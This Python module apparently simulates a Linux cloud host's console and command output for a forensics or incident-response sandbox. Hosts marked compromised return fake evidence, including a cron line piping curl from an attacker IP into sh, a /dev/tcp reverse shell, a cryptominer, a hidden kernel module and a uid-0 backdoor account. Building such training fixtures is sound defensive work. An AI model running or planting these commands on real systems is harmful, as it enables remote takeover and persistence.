"""What a Linux host of the sandbox says of itself: to its console, and to commands that are run on it.

Enough of a shell to answer a collection of evidence: `echo` lines come back, known commands have
texts that follow from the instance, the rest is silent. One with the wish `compromised` shows it.
"""

import hashlib
import re

from moto_background import wish

INTRUDER = "203.0.113.66"
MINER = "/tmp/.x/kworkerds"


class Host:
    def __init__(self, instance):
        self.instance = instance
        self.ip = instance.private_ip or "10.0.0.10"
        self.name = f"ip-{self.ip.replace('.', '-')}"
        self.compromised = wish(instance, "compromised") is not None

    def number(self, what: str, low: int, high: int) -> int:
        """A number that looks random and is the same each time."""
        seed = hashlib.sha256(f"{self.instance.id} {what}".encode()).digest()
        return low + int.from_bytes(seed[:4], "big") % (high - low)

    def digest(self, what: str) -> str:
        return hashlib.sha256(f"{self.name} {what}".encode()).hexdigest()

    def console(self) -> str:
        boot = self.number("boot", 100, 900) / 1000
        lines = [
            f"[    {boot:.6f}] Linux version 6.1.128-136.201.amzn2023.x86_64",
            f"[    {boot + 0.4:.6f}] systemd[1]: Hostname set to <{self.name}.ec2.internal>.",
            f"[    {boot + 4.1:.6f}] cloud-init[1873]: ci-info: | ens5 | True | {self.ip} | 255.255.255.0 |",
        ]
        if self.compromised:
            lines.append("[ 8041.118902] Out of memory: Killed process 2291 (httpd)")
            lines.append(f"[ 8041.402211] crond[1204]: (root) CMD (curl -fsSL http://{INTRUDER}/x.sh | sh)")
        return "\n".join([*lines, "Amazon Linux 2023", f"{self.name} login: "]) + "\n"

    def run(self, script) -> str:
        """The output of a script's lines."""
        found = [self.answer(part) for line in script for part in re.split(r";|&&", line)]
        return "".join(f"{it}\n" for it in found if it)

    def answer(self, command: str) -> str:
        said = re.match(r"\s*(?:echo|printf)\s+(['\"])(.*?)(?:\\n)?\1", command)
        if said:
            return said[2]
        known = next((tell for pattern, tell in TEXTS if re.search(pattern, command)), None)
        return known(self) if known else ""


def processes(host: Host) -> str:
    web = host.number("httpd", 1200, 1900)
    rows = [
        ("root", 1, 0, "/usr/lib/systemd/systemd --switched-root --system"),
        ("root", 812, 1, "/usr/bin/amazon-ssm-agent"),
        ("root", 901, 1, "sshd: /usr/sbin/sshd -D [listener]"),
        ("root", web, 1, "/usr/sbin/httpd -DFOREGROUND"),
        ("apache", web + 3, web, "/usr/sbin/httpd -DFOREGROUND"),
    ]
    if host.compromised:
        rows += [
            ("apache", web + 870, web + 3, "sh -c /bin/bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
            ("apache", web + 871, web + 870, "/bin/bash -i"),
            ("apache", web + 902, 1, f"{MINER} -o stratum+tcp://pool.example.com:3333 (deleted)"),
        ]
    return "\n".join(["USER       PID  PPID COMMAND", *(f"{u:<8} {p:>5} {q:>5} {c}" for u, p, q, c in rows)])


def sockets(host: Host) -> str:
    web, port = host.number("httpd", 1200, 1900), host.number("ssm", 33000, 60000)
    rows = [
        ("LISTEN", "0.0.0.0:22", "0.0.0.0:*", "sshd", 901),
        ("LISTEN", "*:443", "*:*", "httpd", web),
        ("ESTAB", f"{host.ip}:{port}", "52.46.141.10:443", "ssm-agent-worker", 812),
    ]
    if host.compromised:
        rows += [
            ("ESTAB", f"{host.ip}:51514", f"{INTRUDER}:4444", "bash", web + 871),
            ("ESTAB", f"{host.ip}:40022", "198.51.100.23:3333", "kworkerds", web + 902),
        ]
    head = "Netid State  Local Address:Port      Peer Address:Port      Process"
    told = [f'tcp   {s:<6} {a:<23} {b:<22} users:(("{n}",pid={p}))' for s, a, b, n, p in rows]
    return "\n".join([head, *told])


def modules(host: Host) -> str:
    head, hidden = "Module                  Size  Used by", "hideproc               16384  0"
    rows = ["ena                   147456  0", "xfs                  2002944  2"]
    return "\n".join([head, *rows, *([hidden] * host.compromised)])


def crontabs(host: Host) -> str:
    intruder = [f"*/5 * * * * root curl -fsSL http://{INTRUDER}/x.sh | sh"] * host.compromised
    return "\n".join(["0 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf", *intruder])


def people(host: Host) -> str:
    intruder = ["svc-backup:x:0:0::/root:/bin/bash"] * host.compromised
    system = ["root:x:0:0:root:/root:/bin/bash", "apache:x:48:48:Apache:/usr/share/httpd:/sbin/nologin"]
    return "\n".join([*system, "ec2-user:x:1000:1000:EC2 Default User:/home/ec2-user:/bin/bash", *intruder])


def logins(host: Host) -> str:
    usual = "ec2-user pts/0        10.20.9.14       Mon Nov 23 09:12 - 09:40  (00:28)"
    intruder = [f"ec2-user pts/1        {INTRUDER}     Tue Nov 24 02:51   still logged in"] * host.compromised
    return "\n".join([*intruder, usual])


def keys(host: Host) -> str:
    known = f"{host.digest('key')}  /home/ec2-user/.ssh/authorized_keys"
    return "\n".join([known, *([f"{host.digest('other')}  ~root/.ssh/authorized_keys"] * host.compromised)])


def executables(host: Host) -> str:
    paths = ["/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/sbin/httpd", *([MINER] * host.compromised)]
    return "\n".join(f"{host.digest(it)}  {it}" for it in paths)


def journal(host: Host) -> str:
    usual = f"Nov 24 02:00:01 {host.name} systemd[1]: Started Daily rotation of log files."
    accepted = f"Accepted publickey for ec2-user from {INTRUDER} port 51022"
    intruder = f"Nov 24 02:51:07 {host.name} sshd[2877]: {accepted}"
    return "\n".join([usual, *([intruder] * host.compromised)])


def units(host: Host) -> str:
    return "\n".join(f"{it:<24} enabled" for it in ("amazon-ssm-agent.service", "httpd.service", "sshd.service"))


def router(host: Host) -> str:
    return f"{host.ip.rsplit('.', 1)[0]}.1"


def boot(host: Host) -> str:
    digest = host.digest("boot")
    return f"{digest[:8]}-{digest[8:12]}-4000-8000-{digest[12:24]}"


def uptime(host: Host) -> str:
    load = 7.92 if host.compromised else 0.08
    return f"up {host.number('days', 3, 90)} days,  1 user,  load average: {load}"


# The first that fits answers; a word of one is often an argument of another.
TEXTS = (
    (r"authorized_keys", keys),
    (r"sha256sum|md5sum|/proc/\S*/exe", executables),
    (r"crontab|/etc/cron", crontabs),
    (r"list-timers", lambda host: "Tue 2026-11-24 12:00:00 UTC  logrotate.timer  logrotate.service"),
    (r"list-unit|systemctl", units),
    (r"/etc/passwd|getent", people),
    (r"\bwho\b|\blast\b|\blastb\b|\bw\b", logins),
    (r"\bss\b|netstat|/proc/net", sockets),
    (r"\bps\b|pstree", processes),
    (r"lsmod|/proc/modules", modules),
    (r"journalctl|/var/log", journal),
    (r"ip route|route -n", lambda host: f"default via {router(host)} dev ens5 proto dhcp"),
    (r"ip neigh|\barp\b", lambda host: f"{router(host)} dev ens5 lladdr 0a:ff:c1:00:00:01 REACHABLE"),
    (r"ip (-\w+ )*a|ifconfig", lambda host: f"2: ens5: <UP> mtu 9001\n    inet {host.ip}/24 scope global ens5"),
    (r"resolv\.conf", lambda host: "search ec2.internal\nnameserver 10.20.0.2"),
    (r"iptables|\bnft\b", lambda host: "-P INPUT ACCEPT\n-P FORWARD ACCEPT\n-P OUTPUT ACCEPT"),
    (r"sudoers", lambda host: "ec2-user ALL=(ALL) NOPASSWD:ALL"),
    (r"findmnt|\bmount\b|/proc/mounts|\bdf\b", lambda host: "/dev/nvme0n1p1 on / type xfs (rw,noatime)"),
    (r"boot_id", boot),
    (r"\buname\b", lambda host: f"Linux {host.name} 6.1.128-136.201.amzn2023.x86_64 GNU/Linux"),
    (r"\buptime\b", uptime),
    (r"\bhostname\b", lambda host: f"{host.name}.ec2.internal"),
    (r"\bid\b|whoami", lambda host: "uid=0(root) gid=0(root) groups=0(root)"),
)
